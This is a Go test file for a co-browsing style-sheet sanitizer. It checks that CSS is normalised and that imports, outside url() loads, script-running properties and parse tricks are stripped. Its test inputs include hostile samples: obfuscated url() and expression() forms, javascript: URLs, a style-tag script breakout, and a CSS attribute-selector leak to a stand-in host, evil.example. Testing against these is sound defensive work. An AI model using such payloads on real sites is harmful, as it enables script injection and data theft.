package cobrowse_test

import (
	"strings"
	"testing"

	"pupitre/app/cobrowse"
)

// sheet is what is left of a style sheet.
func sheet(t *testing.T, css string) string {
	t.Helper()
	media, content, ok := policy.Resource(strings.Repeat("\x00", cobrowse.HashSize), "text/css", css)
	if !ok || media != "text/css" {
		t.Fatalf("%q: %q, %v", css, media, ok)
	}
	return content
}

func TestStyleSheets(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ css, want string }{
		// What is harmless stays, written in one way.
		{"a { color : red }", "a{color:red;}"},
		{"a{color:red}\n/* x */ b > c , d+e{ margin : 0 auto ; top:1px!important; }", "a{color:red;}b > c , d+e{margin:0 auto;top:1px!important;}"},
		{"@media (min-width: 30em) and (max-width:80em){a{top:0}}", "@media (min-width: 30em) and (max-width:80em){a{top:0;}}"},
		{"@media(min-width:1px){a{top:0}}", "@media (min-width:1px){a{top:0;}}"},
		{"@supports (display:grid) and (not (display:inline-grid)){a{top:0}}", "@supports (display:grid) and (not (display:inline-grid)){a{top:0;}}"},
		{"@layer a, b;@layer a{p{top:0}}", "@layer a, b;@layer a{p{top:0;}}"},
		{"@keyframes x{from{top:0}50%{top:1px}to{top:0}}", "@keyframes x{from{top:0;}50%{top:1px;}to{top:0;}}"},
		{"@container card (width > 400px){a{top:0}}", "@container card (width > 400px){a{top:0;}}"},
		{"@property --x{syntax:'<length>';inherits:false;initial-value:0px}", `@property --x{syntax:"<length>";inherits:false;initial-value:0px;}`},
		{"@page :first{@top-left{content:'x'}margin:1cm}", `@page :first{@top-left{content:"x";}margin:1cm;}`},
		{"a{b:c;&:hover{top:0}.x &{top:1px}d:hover{top:0} e:f}", "a{b:c;&:hover{top:0;}.x &{top:1px;}d:hover{top:0;}e:f;}"},
		{"a{--x:{b:c};--y: ;--z:[1 (2) {3}]}", "a{--x:{b:c};--y:;--z:[1 (2) {3}];}"},
		{"a::before{content:'\\201C \\'x\\\n'}", "a::before{content:\"“'x\";}"},
		{`a{content:"\a \22 \\"}`, `a{content:"\a \"\\";}`},
		{".\\31 0\\:x{top:0}", ".\\31 0\\:x{top:0;}"},
		{"#\\31 x #a1{top:0}", "#1x #a1{top:0;}"},
		{"a{width:1\\65 3;height:1e3px;top:-.5E-2em;left:+1\\45 -x}", "a{width:1\\65 3;height:1e3px;top:-.5E-2em;left:+1\\45 -x;}"},
		{"@font-face{unicode-range:U+0025-00FF, u+4??, U+4E00-9FFF}", "@font-face{unicode-range:U+0025-00FF, u+4??, U+4E00-9FFF;}"},
		{"a/**/b/**/ c{top:0}", "a/**/b/**/ c{top:0;}"},
		{"a{margin:1/**/2}", "a{margin:1/**/2;}"},
		{"\uFEFFa{top:0}", "a{top:0;}"},
		{".é😀{top:0}", ".é😀{top:0;}"},
		{"@namespace svg url(http://www.w3.org/2000/svg);svg|a{top:0}", `@namespace svg "http://www.w3.org/2000/svg";svg|a{top:0;}`},
		{"a[data-x='y' i]{top:0}", `a[data-x="y" i]{top:0;}`},
		{"a:is(.x,:not([y])):nth-child(2n + 1 of p){top:calc(1px + 2%)}", "a:is(.x,:not([y])):nth-child(2n + 1 of p){top:calc(1px + 2%);}"},

		// Links look like links.
		{"a:link,a:visited:hover,:any-link{top:0}", "a[data-pupitre-href],a:visited:hover,[data-pupitre-href]{top:0;}"},
		{"a[ HREF^='http'],a:not([href]){top:0}", `a[data-pupitre-href^="http"],a:not([data-pupitre-href]){top:0;}`},
		{"a::link{x:link}", "a::link{x:link;}"},

		// What would be loaded.
		{"@import url(https://cdn.example/a.css);a{top:0}", "a{top:0;}"},
		{"@\\69mport 'https://evil.example';a{top:0}", "a{top:0;}"},
		{"@import 'x' layer(a) supports(display:grid) screen;a{top:0}", "a{top:0;}"},
		{"@import 'x'", ""},
		{"@media screen{@import 'x';a{top:0}}", "@media screen{a{top:0;}}"},
		{"@namespace url(https://evil.example/);a{top:0}", "a{top:0;}"},
		{"@document url(x){a{top:0}}b{top:0}", "b{top:0;}"},
		{"@charset 'x';@unheard-of a{b{top:0}}c{top:0}", "c{top:0;}"},
		{"a{background:url(https://cdn.example/a.png)}", `a{background:url("https://cdn.example/a.png");}`},
		{"a{background:red url(https://evil.example/?x) top}", `a{background:red url("data:,") top;}`},
		{"a{background:u\\72 l(https://evil.example/)}", `a{background:url("data:,");}`},
		{"a{background:\\75\\72\\6c(https://evil.example/)}", `a{background:url("data:,");}`},
		{"a{background:uRl( \"https://evil.example/\" )}", `a{background:url("data:,");}`},
		{"a{background:url(ht\\74ps://evil.example/)}", `a{background:url("data:,");}`},
		{"a{background:url(//evil.example/)}", `a{background:url("data:,");}`},
		{"a{background:url(a.png)}", `a{background:url("data:,");}`}, // addresses in sheets are whole
		{"a{background:url(#x)}", `a{background:url("#x");}`},
		{"a{background:url(javascript:alert\\28 1\\29 )}", `a{background:url("data:,");}`},
		{"a{background:url(data:image/png;base64,AA==)}", `a{background:url("data:image/png;base64,AA==");}`},
		{"a{background:url('data:text/html,<script>')}", `a{background:url("data:,");}`},
		{"a{background:url(https://cdn.example/a\\)b\\\"c.png)}", `a{background:url("https://cdn.example/a%29b%22c.png");}`},
		{"a{background:url(https://cdn.example/a\"b);top:0}", "a{top:0;}"},
		{"a{background:url(https://cdn.example/a b);top:0}", "a{top:0;}"},
		{"a{background:url('https://cdn.example/a' x);top:0}", "a{top:0;}"},
		{"a{background:url(var(--x));top:0}", "a{top:0;}"},
		{"a{background:image-set('https://evil.example/a.png' 1x, url(https://cdn.example/b.png) 2x type('image/png'))}", `a{background:image-set("data:," 1x, url("https://cdn.example/b.png") 2x type("image/png"));}`},
		{"a{background:-webkit-image-set(linear-gradient(red,blue) 1x)}", "a{background:-webkit-image-set(linear-gradient(red,blue) 1x);}"},
		{"a{--x:'https://evil.example';background:image-set(var(--x) 1x)}", `a{--x:"https://evil.example";}`},
		{"a{background:image-set((var(--x)) 1x);top:0}", "a{top:0;}"},
		{"a{--y:image-set('https://evil.example' 1x)}", `a{--y:image-set("data:," 1x);}`},
		{"a{--y:url(https://evil.example)}", `a{--y:url("data:,");}`},
		{"a{background:src('https://evil.example')}", `a{background:src("data:,");}`},
		{"a{background:src(attr(href));top:0}", "a{top:0;}"},
		{"a{background:image('https://evil.example')}", `a{background:image("data:,");}`},
		{"a{cursor:url(https://evil.example),auto}", `a{cursor:url("data:,"),auto;}`},
		{"a{content:url(https://evil.example)}", `a{content:url("data:,");}`},
		{"a{filter:url(https://evil.example/#x)}", `a{filter:url("data:,");}`},
		{"@font-face{font-family:x;src:local('x'),url(https://evil.example/x) format('woff2'),url(https://cdn.example/x.woff2) format('woff2')}", `@font-face{font-family:x;src:local("x"),url("https://cdn.example/x.woff2") format("woff2");}`},
		{"@font-face{font-family:x;src:url(https://evil.example/x)}", "@font-face{font-family:x;}"},
		{"input[value^='a']{background:url(https://evil.example/?a)}", `input[value^="a"]{background:url("data:,");}`},
		{"a{b:c}@media screen{d{background:url(https://evil.example/)}}", `a{b:c;}@media screen{d{background:url("data:,");}}`},
		{"@supports (background:url(https://evil.example/)){a{top:0}}", `@supports (background:url("data:,")){a{top:0;}}`},

		// What would run.
		{"a{width:expression(alert(1));top:0}", "a{top:0;}"},
		{"a{width:exp\\72 ession(alert(1));top:0}", "a{top:0;}"},
		{"a{width:expre/**/ssion(alert(1));top:0}", "a{width:expre/**/ssion(alert(1));top:0;}"}, // no function of that name
		{"a{behavior:url(#x);-moz-binding:url(#x);BEHAVIOR:none;top:0}", "a{top:0;}"},
		{"a{-moz-b\\69nding:none}", "a{}"},

		// What cannot be read.
		{"a{color:'x\n;top:0}", "a{top:0;}"},
		{"a{color:red", "a{color:red;}"},
		{"a{color:rgb(1,2", "a{color:rgb(1,2);}"},
		{"a{b:'x", `a{b:"x";}`},
		{"a{b:url(https://cdn.example/x", `a{b:url("https://cdn.example/x");}`},
		{"a{color:r]ed;top:0}", "a{top:0;}"},
		{"a{color:(};top:0)}b{top:0}", "a{}b{top:0;}"},
		{"}a{top:0}", ""},
		{"a}b{top:0}c{top:0}", "c{top:0;}"},
		{"<!-- a{top:0} -->b{top:0}", "a{top:0;}b{top:0;}"},
		{"a<!--b{top:0}c{top:0}", "c{top:0;}"},
		{"{top:0}a{top:0}", "a{top:0;}"},
		{"a;b{top:0}", "b{top:0;}"},
		{"a{@x;b:c}", "a{b:c;}"},
		{"a{b c:d;e:f}", "a{e:f;}"},
		{"/* a{top:0}", ""},
		{"a{top:0}/* ", "a{top:0;}"},
		{"</style><script>alert(1)</script>", ""},
		{"a{b:\\\n;top:0}", "a{top:0;}"},
		{"a{b:\x01;top:0}", "a{top:0;}"},
		{"a\x00{top:0}", "a\\fffd{top:0;}"},
		{"\\", ""},
		{"a{b:'\\", `a{b:"";}`},
		{"a{b:\\110000 \\d800 x}", "a{b:\\fffd \\fffd x;}"},
		{strings.Repeat("a{", 100) + "b:c", strings.Repeat("a{", 65) + strings.Repeat("}", 65)},
	} {
		got := sheet(t, c.css)
		if got != c.want {
			t.Errorf("%q:\ngot  %s\nwant %s", c.css, got, c.want)
		}
		if again := sheet(t, got); again != got {
			t.Errorf("%q, and again %q", got, again)
		}
	}
}

// A hundred thousand brackets need no more of the stack than a hundred.
func TestBracketsWithoutEnd(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"(", "[", "a{", "f(", "a:is(", "@media{", "url(", "a{b:(", "a{--x:{", "'", "\\", "@", "/*", "<!--", "a:b(}"} {
		css := strings.Repeat(s, 300_000/len(s))
		if got := sheet(t, css); len(got) > 1000 {
			t.Errorf("%s: %d bytes", s, len(got))
		}
	}
}
